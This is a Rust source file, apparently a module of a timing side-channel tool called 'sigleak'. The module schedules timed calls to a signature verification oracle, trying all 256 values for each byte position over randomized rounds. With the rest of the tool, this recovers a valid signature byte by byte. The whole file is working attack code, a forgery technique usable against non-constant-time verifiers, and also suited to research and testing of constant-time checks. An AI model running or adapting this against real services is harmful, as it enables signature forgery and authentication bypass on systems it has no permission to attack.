//! Per-position trial scheduling with randomized candidate order.
//!
//! For one byte position the scheduler tries all 256 candidates in each of
//! `rounds` rounds. Every round uses a fresh permutation drawn from its own
//! RNG stream, so no candidate is systematically measured while the CPU is
//! still adapting (branch predictor training, cache warming, frequency
//! ramps). Shuffling can be turned off to try candidates in ascending order.

use rand::seq::SliceRandom;
use rand::SeedableRng;
use rand_xoshiro::Xoshiro256PlusPlus;
use sigleak_core::constants::CANDIDATE_COUNT;
use sigleak_core::statistics::DurationMatrix;

use super::clock::{Clock, Timer};
use crate::error::RecoveryError;
use crate::oracle::VerifyOracle;
use crate::signature::SignatureAssembler;

/// Derive an independent RNG seed for (`pass`, `round`) from the run seed.
///
/// SplitMix64 finalizer over the mixed counters, so neighbouring rounds get
/// uncorrelated streams while the whole run stays reproducible from one seed.
pub fn derive_seed(seed: u64, pass: u64, round: u64) -> u64 {
    let mut z = seed
        ^ pass.wrapping_mul(0x9E37_79B9_7F4A_7C15)
        ^ round.wrapping_mul(0xD1B5_4A32_D192_ED03);
    z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
    z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
    z ^ (z >> 31)
}

/// Measures one byte position: 256 candidates × `rounds` timed oracle calls.
///
/// The duration matrix, candidate order and composed-signature scratch are
/// allocated once and reused for every position, so no allocation happens
/// between the clock readings.
#[derive(Debug)]
pub struct TrialScheduler {
    rounds: usize,
    shuffle: bool,
    seed: u64,
    passes: u64,
    matrix: DurationMatrix,
    order: Vec<u8>,
    scratch: Vec<u8>,
}

impl TrialScheduler {
    /// Create a scheduler for signatures of `full_length` bytes.
    ///
    /// # Panics
    ///
    /// Panics if `rounds` is zero.
    pub fn new(rounds: usize, shuffle: bool, full_length: usize, seed: u64) -> Self {
        Self {
            rounds,
            shuffle,
            seed,
            passes: 0,
            matrix: DurationMatrix::new(rounds),
            order: (0..=u8::MAX).collect(),
            scratch: vec![0u8; full_length],
        }
    }

    /// Rounds per candidate.
    pub fn rounds(&self) -> usize {
        self.rounds
    }

    /// Oracle calls made by one [`measure_position`](Self::measure_position).
    pub fn calls_per_position(&self) -> usize {
        self.rounds * CANDIDATE_COUNT
    }

    /// Candidate order used in the most recent round.
    pub fn last_order(&self) -> &[u8] {
        &self.order
    }

    /// Time every candidate at `position` for every round.
    ///
    /// Each call writes the candidate into the working signature, composes
    /// preamble ‖ signature, and times one oracle call. On return the
    /// signature holds the last candidate tried; the caller commits the
    /// real selection. Oracle errors abort the batch.
    pub fn measure_position<O, C>(
        &mut self,
        oracle: &mut O,
        timer: &Timer<C>,
        message: &[u8],
        signature: &mut SignatureAssembler,
        position: usize,
    ) -> Result<&DurationMatrix, RecoveryError>
    where
        O: VerifyOracle,
        C: Clock,
    {
        assert!(position < signature.len(), "position out of range");

        self.matrix.reset();
        let pass = self.passes;
        self.passes += 1;

        for round in 0..self.rounds {
            self.prepare_order(pass, round);

            for i in 0..CANDIDATE_COUNT {
                let candidate = self.order[i];
                signature.set(position, candidate);
                signature.compose_into(&mut self.scratch);

                let scratch = &self.scratch;
                let (verdict, elapsed) = timer.measure_ns(|| oracle.verify(message, scratch));
                verdict.map_err(RecoveryError::oracle)?;

                self.matrix.record(candidate, round, elapsed);
            }
        }

        tracing::trace!(position, pass, rounds = self.rounds, "position measured");
        Ok(&self.matrix)
    }

    /// Reset the candidate order and shuffle it with this round's RNG stream.
    fn prepare_order(&mut self, pass: u64, round: usize) {
        for (slot, value) in self.order.iter_mut().zip(0..=u8::MAX) {
            *slot = value;
        }
        if self.shuffle {
            let mut rng =
                Xoshiro256PlusPlus::seed_from_u64(derive_seed(self.seed, pass, round as u64));
            self.order.shuffle(&mut rng);
        }
    }
}
